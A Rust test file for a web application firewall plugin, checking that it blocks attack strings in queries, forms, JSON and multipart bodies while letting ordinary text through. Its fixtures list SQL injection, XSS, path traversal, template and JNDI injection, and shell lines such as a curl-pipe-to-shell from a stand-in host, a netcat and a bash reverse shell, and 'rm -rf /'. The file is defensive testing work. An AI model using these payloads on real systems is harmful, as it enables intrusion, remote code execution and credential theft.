//! Attacks that must be seen, requests that must not be taken for one, and what becomes of both.

use weir_guest::testing::{self, Level};

use super::*;

fn waf(settings: &str) -> Waf {
    testing::load(settings).expect("settings").0
}

/// The status that a request gets, 200 where it goes on, with its body in pieces of at most `piece` bytes; what goes on of
/// the body is what was sent.
fn status(waf: &Waf, req: &Request, piece: usize) -> u16 {
    let mut x = Exchange::default();
    if let Verdict::Respond(reply) = waf.on_request(&mut x, req).expect("on_request") {
        return reply.status;
    }
    let body = req.body().read(None).expect("body");
    if body.is_empty() || req.body().is_passed() {
        return 200;
    }
    let mut sent = Vec::new();
    for data in body.chunks(piece).chain([&[][..]]) {
        match waf.on_request_body(&mut x, data, data.is_empty()).expect("on_request_body") {
            Piece::Pass => sent.extend_from_slice(data),
            Piece::Replace(bytes) => sent.extend_from_slice(&bytes),
            Piece::Respond(reply) => return reply.status,
        }
    }
    assert_eq!(sent, body);
    200
}

fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

fn query(value: &str) -> Request {
    Request::new("GET", &format!("/search?q={}", encode(value)))
}

fn post(content_type: &str, body: &str) -> Request {
    Request::new("POST", "/post").with_header("content-type", content_type).with_body(body)
}

/// The ways in which a value comes.
fn carriers(value: &str) -> [(&'static str, Request); 4] {
    let json = serde_json::json!({"comment": {"text": [value]}}).to_string();
    let part = format!("--x\r\ncontent-disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n--x--\r\n");
    [
        ("query", query(value)),
        ("form", post("application/x-www-form-urlencoded", &format!("a=b&c={}", encode(value)))),
        ("JSON", post("application/json", &json)),
        ("multipart", post("multipart/form-data; boundary=x", &part)),
    ]
}

/// The last line of the log, where something was refused.
fn why() -> String {
    testing::log().last().map(|(_, line)| line.clone()).unwrap_or_default()
}

const ATTACKS: &[(&str, &[&str])] = &[
    (
        "sqli",
        &[
            "' or '1'='1",
            "' OR 1=1 --",
            "1' or '1' = '1' -- -",
            "\" or \"\"=\"",
            "') or ('a'='a",
            "1 or 1=1",
            "5 AND 1=2",
            "' or 'a' like 'a",
            "admin'--",
            "admin' #",
            "admin'/*",
            "' or true--",
            "x' || 1 #",
            "-1 union select 1,2,3",
            "1' UNION ALL SELECT null,null--",
            "1/**/union/**/select/**/password/**/from/**/users",
            "-1 /*!50000union*/ /*!50000select*/ 1,version()",
            "1%20union%20select%20@@version",
            "' union\tselect\nusername, password from users --",
            "1; drop table users",
            "'; DROP TABLE students;--",
            "1; exec xp_cmdshell('dir')",
            "'; shutdown --",
            "1'; insert into users values (1)",
            "1; waitfor delay '0:0:5'",
            "1' and sleep(5)#",
            "1 and (select sleep(5))",
            "1;select pg_sleep(10)",
            "1 or benchmark(10000000,md5(1))",
            "' and extractvalue(1,concat(0x7e,version()))",
            "1 and ascii(substring((select password from users limit 1),1,1))>64",
            "1 and (select count(*) from users)>0",
            "' and exists(select * from users) and ''='",
            "load_file('/etc/passwd')",
            "1' into outfile '/var/www/x.php",
            "' order by 10--",
            "1' having 1=1",
            "'||(select(1))||'",
            "'+char(65)+'",
            "&#39; or &#39;1&#39;=&#39;1",
        ],
    ),
    (
        "xss",
        &[
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script >eval(name)</script >",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<body onpageshow=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) '",
            "<a href=\"javascript:alert(1)\">x</a>",
            "java\tscript:alert(1)",
            "java&#10;script&colon;alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<b>x",
            "data:text/html;base64,PHNjcmlwdD4=",
            "<iframe srcdoc='x'>",
            "＜script＞alert(1)＜/script＞",
            "<script>\u{0}alert`1`</script>",
            "<object data=javascript:alert(1)>",
            "<ScRiPt\n>x=1</sCrIpT>",
            "<script>document.cookie</script>",
            "<details open ontoggle=alert(1)>",
            "<scr\0ipt>alert(1)</script>",
        ],
    ),
    (
        "files",
        &[
            "../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "....//....//....//etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=a",
            "C:\\windows\\system32\\drivers",
            "../wp-config.php",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
            "..;/..;/..;/manager",
            "/proc/self/environ",
            "expect://id",
            "gopher://127.0.0.1:6379/_x",
        ],
    ),
    (
        "shell",
        &[
            "; cat /etc/passwd",
            "x|cat /etc/passwd",
            "127.0.0.1; ls -la",
            "127.0.0.1 && whoami",
            "$(whoami)",
            "x;id",
            "a | wget http://evil.example/x",
            "; curl -s evil.example | sh",
            "& ping -c 10 127.0.0.1 &",
            "|nc -e /bin/sh 10.0.0.1 4444",
            "; python3 -c 'import os'",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "cat${IFS}/etc/passwd",
            ";rm -rf /",
            "x; sleep 10",
            "$(sleep 5)",
            "a || /bin/cat ~/.ssh/id_rsa",
            "& ipconfig",
            "; powershell -enc AAAA",
        ],
    ),
    ("ldap", &["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(cn=*))", "admin)(!(&(1=0"]),
    (
        "templates",
        &[
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7 * 7 %>",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{config}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{% for c in ().__class__.__base__.__subclasses__() %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${j${::-n}di:ldap://x}",
            "%{(#_='multipart/form-data')}",
            "<%= system('id') %>",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        ],
    ),
];

#[test]
fn attacks_are_refused_in_queries_forms_json_and_multipart() {
    let waf = waf("{}");
    let mut missed = Vec::new();
    for (family, attacks) in ATTACKS {
        for attack in *attacks {
            for (carrier, req) in carriers(attack) {
                if status(&waf, &req, 7) != 403 {
                    missed.push(format!("{family} in {carrier}: {attack}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "not refused:\n{}", missed.join("\n"));
}

#[test]
fn attacks_are_refused_where_only_some_of_them_come() {
    let waf = waf("{}");
    for req in [
        Request::new("GET", "/a/..%2f..%2fetc"),
        Request::new("GET", "/a/%252e%252e/b"),
        Request::new("GET", "/.git/config"),
        Request::new("GET", "/app/.env"),
        Request::new("GET", "/a%00.php"),
        Request::new("GET", "/%3Cscript%3Ealert(1)%3C/script%3E"),
        Request::new("GET", "/?file=report.php%00.png"),
        Request::new("GET", "/?user[$ne]=x"),
        Request::new("GET", "/?%27%20or%201=1--=x"),
        Request::new("GET", "/?x=`whoami`"),
        Request::new("GET", "/").with_header("user-agent", "() { :; }; echo x"),
        Request::new("GET", "/").with_header("user-agent", "${jndi:ldap://x/a}"),
        Request::new("GET", "/")
            .with_header("referer", "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        Request::new("GET", "/").with_header("x-forwarded-for", "1' or '1'='1"),
        Request::new("GET", "/").with_header("cookie", "a=b; id=1%27%20or%201=1--"),
        post("application/json", r#"{"$where": "sleep(1)"}"#),
        post("application/json", r#"{"a": "\u003cscript\u003ealert(1)"#),
        post("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"),
        post("text/plain", "<img src=x onerror=alert(1)>"),
        Request::new("POST", "/").with_body("<img src=x onerror=alert(1)>"),
        post(
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--x--",
        ),
        post(
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"' or 1=1--\"\r\n\r\nx",
        ),
    ] {
        let target = format!("{} {:?}", req.path(), req.body().read(None));
        assert_eq!(status(&waf, &req, 1000), 403, "{target}");
    }
}

const ORDINARY: &[&str] = &[
    // Names and English.
    "O'Brien",
    "D'Angelo & Sons",
    "it's 5 o'clock",
    "don't",
    "Rock 'n' Roll",
    "the '90s and '80s",
    "select your seat",
    "Select a date from the calendar",
    "the European Union select committee",
    "Union Select Insurance",
    "drop the table off",
    "please update the set list",
    "insert coin; delete from cart",
    "create a table and order by Monday",
    "union jack",
    "or",
    "and",
    "order by 5 pm",
    "1 or 2 people",
    "2 and 3 are 5",
    "Romeo and Juliet",
    "having 2 = 1 problem?",
    "50% off & more",
    "100% cotton",
    "black & white; cat",
    "cats & dogs; more of them",
    "C&A",
    "AT&T",
    "R&D; id required",
    "Tom; head of sales",
    "10 < 20 and 30 > 20",
    "I <3 you",
    "a <b> c",
    "x -- y",
    "wait -- what?",
    "-- Bob",
    "\"quoted\" text",
    "he said \"no\" or \"yes\"",
    "'a' or 'b'",
    "#hashtag",
    "'#1' fan",
    "C# or F#",
    "say 'hi' #welcome",
    "mail: a+b@example.com",
    "https://example.com/a?b=c&d=e#f",
    "see http://localhost:8080/..",
    "Find it; ping me tomorrow",
    "sleep (8 hours)",
    "sleep 8 hours; eat well",
    "script: the movie",
    "javascript: the good parts",
    "JavaScript: a guide",
    "on load = heavy",
    "one = 1",
    "online=true",
    "status: on",
    "Ruby & PHP developers",
    "Perl; PHP; Python",
    "cmd & ctrl",
    "my home directory is /home/me",
    "./relative/path",
    "../images/logo.png",
    "a/../b",
    "C:\\Users\\me\\Documents",
    "how do I edit /etc/hosts on a Mac?",
    "file: report.pdf",
    "data: 5 items",
    "1,2,3",
    "(a)(b)(c)",
    "f(x) = (x + 1)(x - 1)",
    ":-) ;-) (:",
    "(* *)",
    "a*b*c",
    "$5 or $10",
    "{name}",
    "{{ user.name }}",
    "{{config.title}}",
    "Hi ${name}!",
    "{% if user %}Hi{% endif %}",
    "#{name}",
    "10*10",
    "Größe: 5 × 7",
    "日本語のテキスト",
    "ﾃｽﾄ ＡＢＣ",
    "emoji 🎉 & more 🎈",
    "null",
    "true",
    "1=1?",
    "10' x 12' or 3m x 4m",
    "5' 10\" and 6' 2\"",
    "12\" or 15\" screen",
    "size = '10'",
    // Encodings.
    "QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    "AAAA//8/+++/abc--",
    "d41d8cd98f00b204e9800998ecf8427e",
    "550e8400-e29b-41d4-a716-446655440000",
    "2026-01-01T00:00:00+01:00",
    "{\"a\": [1, 2], \"b\": {\"c\": \"d'e\"}}",
    "[{\"op\": \"and\", \"value\": \"1\"}]",
    "a%20b",
    "%E2%82%AC",
    "data:image/png;base64,iVBORw0KGgo=",
    "-----BEGIN PUBLIC KEY-----",
    "W/\"abc\"",
    // Markdown.
    "# Title\n\n- one\n- two\n\n**bold** and *italic*\n\n> quote",
    "| name | id |\n|---|---|\n| ls | dir |\n| curl | wget |",
    "Run `cat /etc/hosts` and then `ls -la`.",
    "```sh\ncargo build\nls -la\n```",
    "[docs](../README.md), [more](../../docs/a.md)",
    "![image](https://example.com/a.png \"title\")",
    "A line--\nand another; it's fine",
    "use `<script>` here",
    "1. a\n2. b -- c",
    // Code in searches.
    "select * from users where id = 1",
    "SELECT name, count(*) FROM t GROUP BY name HAVING count(*) > 1",
    "how to use union in SQL",
    "for (int i = 0; i < 10; i++) { sum += i; }",
    "if (a && b || c) { return; }",
    "std::vector<int> v;",
    "time.sleep(5)",
    "x => x * 2",
    "const f = () => { return 1; }",
    "function foo() { return; }",
    "document.cookie",
    "eval(",
    "what does <script> do",
    "grep -r foo | sort",
    "ls -la",
    "curl https://example.com",
    "rm -rf node_modules",
    "git log --oneline",
    "docker run -it ubuntu bash",
    "import os; os.getcwd()",
    "#include <stdio.h>",
    "List<String> a = new ArrayList<>();",
    "a[0] = b[1]",
    "__init__",
    "obj.__class__.__name__",
    "$scope.x = 1",
    "$x = $_GET['id'];",
    "echo \"$HOME\"",
    "div > p:first-child",
    "a:hover { color: red; }",
    "<p class=\"a\">text</p>",
    "<br/>",
    "<a href=\"/x\">y</a>",
    "<img src=\"a.png\" alt=\"on top = best\">",
    "onclick handler in react",
    "title:\"foo bar\" OR author:smith",
    "year:>2000 AND genre:'rock'",
    "(cn=admin)",
    "(&(uid=*)(cn=*))",
    "use <script> (inline) or [async]",
    "(&(objectClass=person)(uid=joe))",
    "SELECT",
    "information_schema.tables",
    "concat(a, b)",
    "/* comment */ x",
    "*/5 * * * *",
    "a || b",
    "x ?? y",
    "print(f'{x}')",
    "lambda x: x",
    "sum(1 for x in y)",
];

#[test]
fn ordinary_values_go_on() {
    let waf = waf("{}");
    let mut refused = Vec::new();
    for value in ORDINARY {
        let text = [("text", post("text/plain", value))];
        for (carrier, req) in carriers(value).into_iter().chain(text) {
            if status(&waf, &req, 11) != 200 {
                refused.push(format!("{carrier}: {value}: {}", why()));
            }
        }
    }
    assert!(refused.is_empty(), "refused:\n{}", refused.join("\n"));
}

#[test]
fn ordinary_requests_go_on() {
    let waf = waf("{}");
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "python-requests/2.32.3",
    ];
    for agent in agents {
        for target in [
            "/",
            "/a/b.html",
            "/.well-known/acme-challenge/x",
            "/caf%C3%A9/o'brien",
            "/a?b=c&d=e;f",
            "/wiki/C%2B%2B",
        ] {
            let req = Request::new("GET", target)
                .with_header("user-agent", agent)
                .with_header("accept", "text/html,*/*;q=0.8")
                .with_header("referer", "https://www.example.com/search?q=it%27s+fine&x=1")
                .with_header("sec-ch-ua", "\"Not A;Brand\";v=\"8\", \"Chromium\";v=\"130\"")
                .with_header("if-none-match", "W/\"a--\"")
                .with_header("forwarded", "for=192.0.2.1;proto=https;by=\"[2001:db8::1]\"")
                .with_header("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")
                .with_header("authorization", "Basic ' or 1=1--")
                .with_header(
                    "cookie",
                    "_ga=GA1.2.3; s=%7B%22a%22%3A1%7D; t=eyJh.eyJz.dBj; c=\"x\"; pref=a|b|c&d",
                );
            assert_eq!(status(&waf, &req, 1), 200, "{agent} {target}: {}", why());
        }
    }
}

#[test]
fn what_is_refused_is_logged_once_and_counted_by_rule() {
    let waf = waf("{}");
    let req = Request::new("GET", "/?id=1%20union%20select%201,2&x=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(status(&waf, &req, 1), 403);
    let log = testing::log();
    let line = "blocked: score 13 of 5: sqli-union in query `id`: 1 union select; xss-script in query `x`: <script>alert(; \
                xss-script-tag in query `x`: <script>";
    assert_eq!(log, [(Level::Warn, line.to_owned())]);
    for rule in ["sqli-union", "xss-script", "xss-script-tag"] {
        assert_eq!(testing::metrics().get(&format!("blocked{{rule=\"{rule}\"}}")), Some(&1.0), "{rule}");
    }
}

#[test]
fn secrets_do_not_get_into_the_log_and_lines_are_bounded() {
    let waf = waf("{}");
    let long = "a".repeat(500);
    for req in [
        Request::new("GET", "/").with_header("cookie", "a=hunter2' or 1=1--"),
        Request::new("GET", "/").with_header("x-auth-token", "hunter2' or 1=1--"),
        Request::new("GET", "/?password=hunter2'%20or%201=1--"),
        Request::new("GET", &format!("/?{long}=%3Cimg%20src=%22{long}%22%20onerror=x%3E%0A")),
    ] {
        assert_eq!(status(&waf, &req, 1), 403);
        let line = why();
        assert!(!line.contains("hunter2") && !line.contains('\n') && line.len() < 300, "{line}");
    }
}

#[test]
fn reports_do_not_hold_the_body_back() {
    let waf = waf(r#"{"mode": "report"}"#);
    let mut x = Exchange::default();
    let body = "a=' or 1=1--";
    let req = post("application/x-www-form-urlencoded", body);
    assert_eq!(waf.on_request(&mut x, &req), Ok(Verdict::Proceed));
    assert_eq!(waf.on_request_body(&mut x, body.as_bytes(), false), Ok(Piece::Pass));
    assert_eq!(testing::log(), []);
    assert_eq!(waf.on_request_body(&mut x, b"", true), Ok(Piece::Pass));
    assert!(why().starts_with("would block: score "), "{}", why());
    assert_eq!(testing::metrics().get("reported{rule=\"sqli-tautology\"}"), Some(&1.0));
    assert_eq!(status(&waf, &query("' or 1=1--"), 1), 200);
    assert_eq!(testing::metrics().get("reported{rule=\"sqli-tautology\"}"), Some(&2.0));
}

#[test]
fn settings_change_what_is_refused() {
    let (attack, weak) = ("/?q=' or 1=1", "/?q=<script>");
    for (settings, target, expected) in [
        (r#"{"threshold": 6}"#, attack, 200),
        (r#"{"threshold": 3}"#, weak, 403),
        (r#"{"status": 418}"#, attack, 418),
        (r#"{"where": ["path", "body"]}"#, attack, 200),
        (r#"{"where": ["query"]}"#, attack, 403),
        (r#"{"allow": [{"rules": ["sqli-tautology"]}]}"#, attack, 200),
        (r#"{"allow": [{"rules": ["sqli-*"]}]}"#, attack, 200),
        (r#"{"allow": [{"rules": ["xss-*"]}]}"#, attack, 403),
        (r#"{"allow": [{"names": ["q"]}]}"#, attack, 200),
        (r#"{"allow": [{"names": ["r"]}]}"#, attack, 403),
        (r#"{"allow": [{"paths": ["/"]}]}"#, attack, 200),
        (r#"{"allow": [{"paths": ["/a"]}]}"#, "/a/b?q=' or 1=1", 200),
        (r#"{"allow": [{"paths": ["/a/"], "rules": ["sqli-*"]}]}"#, "/a?q=' or 1=1", 200),
        (r#"{"allow": [{"paths": ["/a"]}]}"#, "/ab?q=' or 1=1", 403),
        (r#"{"rules": [{"id": "own", "where": ["path"], "pattern": "^/Admin\\b"}]}"#, "/admin/x", 403),
        (r#"{"rules": [{"id": "own", "where": ["query"], "pattern": "^/admin\\b"}]}"#, "/admin/x", 200),
        (r#"{"rules": [{"id": "own", "pattern": "admin", "score": 2}]}"#, "/admin", 200),
        (r#"{"rules": [{"id": "own", "pattern": "admin", "score": 2}]}"#, "/admin?q=<script>", 403),
        (
            r#"{"rules": [{"id": "own", "pattern": "admin"}], "allow": [{"rules": ["own"], "paths": ["/admin"]}]}"#,
            "/admin",
            200,
        ),
    ] {
        assert_eq!(status(&waf(settings), &Request::new("GET", target), 1), expected, "{settings} {target}");
    }
}

#[test]
fn of_a_large_body_the_begin_is_looked_at_or_it_is_refused() {
    let attack = "<script>alert(1)</script>";
    let (before, after) = (format!("{attack}{}", " ".repeat(100)), format!("{}{attack}", " ".repeat(100)));
    let long =
        |body: &str| Request::new("POST", "/").with_header("content-type", "text/plain").with_body(body);
    for piece in [1, 10, 64, 1000] {
        let waf = waf(r#"{"body_limit": 64}"#);
        assert_eq!(status(&waf, &long(&before), piece), 403);
        assert_eq!(status(&waf, &long(&after), piece), 200);
    }
    let waf = waf(r#"{"body_limit": 64, "large": "refuse"}"#);
    assert_eq!(status(&waf, &long(&after), 10), 413);
    let mut x = Exchange::default();
    let req = Request::new("POST", "/").with_header("content-type", "text/plain");
    assert_eq!(waf.on_request(&mut x, &req), Ok(Verdict::Proceed), "a length that is not told");
    let Ok(Piece::Respond(reply)) = waf.on_request_body(&mut x, after.as_bytes(), false) else {
        panic!("refused")
    };
    assert_eq!(reply.status, 413);
    assert_eq!(testing::metrics().get("blocked{rule=\"large\"}"), Some(&2.0));
}

#[test]
fn bodies_that_are_no_text_are_not_looked_at() {
    let waf = waf("{}");
    let req = post("image/png", "<script>alert(1)</script>");
    assert_eq!(status(&waf, &req, 1), 200);
    assert!(req.body().is_passed());
}

#[test]
fn ids_are_unique_and_each_pattern_compiles_and_is_found_by_its_literals() {
    for (at, rule) in rules::RULES.iter().enumerate() {
        assert!(rules::RULES.iter().take(at).all(|other| other.id != rule.id), "{}", rule.id);
        engine::regex(&rule.pattern.replace("EVENTS", rules::EVENTS)).expect(rule.id);
        assert!(!rule.literals.is_empty(), "{}", rule.id);
        assert!(rule.literals.iter().all(|literal| !literal.is_empty()), "{}", rule.id);
    }
}

#[test]
fn settings_that_cannot_be_are_refused_with_what_would_be_right() {
    for (settings, expected) in [
        (r#"{"mode": "log"}"#, "settings: unknown variant `log`, expected `block` or `report`"),
        (r#"{"threshold": 0}"#, "threshold: 0 would refuse every request; at least 1"),
        (r#"{"status": 200}"#, "status: 200 is no error; 400 to 599"),
        (r#"{"body_limit": 0}"#, "body_limit: 0 bytes; at least 1"),
        (r#"{"allow": [{}]}"#, "allow: an entry needs `rules`, `paths` or `names`"),
        (r#"{"allow": [{"rules": ["sql-union"]}]}"#, "allow: there is no rule `sql-union`; an id such as"),
        (r#"{"allow": [{"paths": ["a"]}]}"#, "allow: the path `a` does not begin with `/`"),
        (r#"{"rules": [{"id": "A b", "pattern": "x"}]}"#, "rules: `A b` is no id; 1 to 64"),
        (r#"{"rules": [{"id": "xxe", "pattern": "x"}]}"#, "rules: `xxe` comes with the plugin"),
        (
            r#"{"rules": [{"id": "a", "pattern": "x"}, {"id": "a", "pattern": "x"}]}"#,
            "rules: `a` is there twice",
        ),
        (r#"{"rules": [{"id": "a", "pattern": "("}]}"#, "rules: `a`: the pattern is no regular expression"),
        (r#"{"rules": [{"id": "a", "pattern": "x*"}]}"#, "rules: `a`: the pattern matches nothing at all"),
        (r#"{"rules": [{"id": "a", "pattern": "x", "score": 0}]}"#, "rules: `a`: a score of 0"),
        (r#"{"rule": []}"#, "settings: unknown field `rule`"),
    ] {
        let refused = testing::load::<Waf>(settings).err().expect(settings);
        assert!(refused.starts_with(expected), "{refused}");
    }
}

#[test]
fn hooks_are_those_that_are_needed() {
    for (settings, expected) in
        [("{}", Hooks::REQUEST | Hooks::REQUEST_BODY), (r#"{"where": ["path", "query"]}"#, Hooks::REQUEST)]
    {
        assert_eq!(testing::load::<Waf>(settings).expect("settings").1, expected);
    }
}
